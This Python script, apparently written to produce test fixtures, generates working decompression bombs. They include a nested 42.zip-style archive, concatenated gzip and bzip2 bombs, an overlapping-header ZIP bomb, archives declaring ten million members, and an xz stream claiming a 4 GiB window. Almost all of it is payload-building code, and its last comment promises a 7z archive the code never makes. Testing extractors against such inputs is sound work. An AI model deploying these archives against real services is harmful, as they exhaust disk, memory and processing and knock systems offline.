"""Writes archives that are made to do harm, at full size, into the folder that is named."""
import bz2
import gzip
import io
import lzma
import os
import struct
import sys
import zipfile
import zlib

os.chdir(sys.argv[1])


def write(name, *parts):
    with open(name, "wb") as out:
        for part in parts:
            out.write(part)


def zip_of(names, data):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for name in names:
            z.writestr(name, data)
    return out.getvalue()


# As 42.zip: sixteen in sixteen in sixteen, 256 MiB each at the bottom: 1 TiB.
data = zip_of(["0.bin"], b"\0" * (256 << 20))
for level in range(3):
    data = zip_of(["%d.zip" % i for i in range(16)], data)
write("nested.zip", data)

# 64 GiB out of 64 MB, which is what deflate can do at most; and the same in one that bzip2 made.
member = gzip.compress(b"\0" * (64 << 20))
write("bomb.gz", *[member] * 1024)
member = bz2.compress(b"\0" * (64 << 20))
write("bomb.bz2", *[member] * 1024)

# David Fifield's: every member quotes the headers behind it, and all share one kernel.
plain = b"\0" * (21 << 20)
squeeze = zlib.compressobj(9, zlib.DEFLATED, -15)
packed = squeeze.compress(plain) + squeeze.flush()
size, crc, blob, files = len(plain), zlib.crc32(plain), b"", []
for i in reversed(range(250)):
    name = b"%03d" % i
    if blob:
        quoted = header
        packed_size = packed_size + 5 + len(quoted)
        size += len(quoted)
        crc = 0  # not what it is; nobody gets as far as to compare
        blob = struct.pack("<BHH", 0, len(quoted), len(quoted) ^ 0xFFFF) + blob
    else:
        blob, packed_size = packed, len(packed)
    header = struct.pack("<4sHHHHHLLLHH", b"PK\3\4", 20, 0, 8, 0, 0, crc, packed_size, size, len(name), 0) + name
    blob = header + blob
    files.insert(0, (name, packed_size, size, crc))
central, at = b"", 0
for name, packed_size, size, crc in files:
    central += struct.pack("<4sHHHHHHLLLHHHHHLL", b"PK\1\2", 20, 20, 0, 8, 0, 0, crc, packed_size, size, len(name),
                           0, 0, 0, 0, 0, at) + name
    at += 30 + len(name) + 5
end = struct.pack("<4sHHHHLLH", b"PK\5\6", 0, 0, len(files), len(files), len(central), len(blob), 0)
write("overlap.zip", blob, central, end)

# Ten million empty members: a tar, and a ZIP whose directory names one header again and again.
header = bytearray(512)
header[0:1], header[100:107], header[124:135] = b"x", b"0000644", b"0" * 11
header[156:157], header[257:263], header[263:265] = b"0", b"ustar\0", b"00"
header[148:156] = b" " * 8
header[148:155] = b"%06o\0" % sum(header)
block = gzip.compress(bytes(header) * 100_000)
write("members.tar.gz", *[block] * 100)
n = 10_000_000
local = struct.pack("<4sHHHHHLLLHH", b"PK\3\4", 20, 0, 0, 0, 0, 0, 0, 0, 1, 0) + b"x"
entry = struct.pack("<4sHHHHHHLLLHHHHHLL", b"PK\1\2", 20, 20, 0, 0, 0, 0, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0) + b"x"
wide = struct.pack("<4sQHHLLQQQQ", b"PK\6\6", 44, 45, 45, 0, 0, n, n, len(entry) * n, len(local))
locator = struct.pack("<4sLQL", b"PK\6\7", 0, len(local) + len(entry) * n, 1)
end = struct.pack("<4sHHHHLLH", b"PK\5\6", 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0)
with gzip.open("members.zip.gz", "wb", 1) as out:
    out.write(local)
    for i in range(100):
        out.write(entry * (n // 100))
    out.write(wide + locator + end)

# A window of 4 GiB, which the data never use.
data = bytearray(lzma.compress(b"name,phone\n" * 1000))
data[16] = 40
length = (data[12] + 1) * 4
data[12 + length - 4:12 + length] = struct.pack("<L", zlib.crc32(data[12:12 + length - 4]))
write("window.xz", data)

# A 7z of 1 GiB of zeros: LZMA makes 150 kB of it.
write("zeros", b"\0" * (1 << 30))
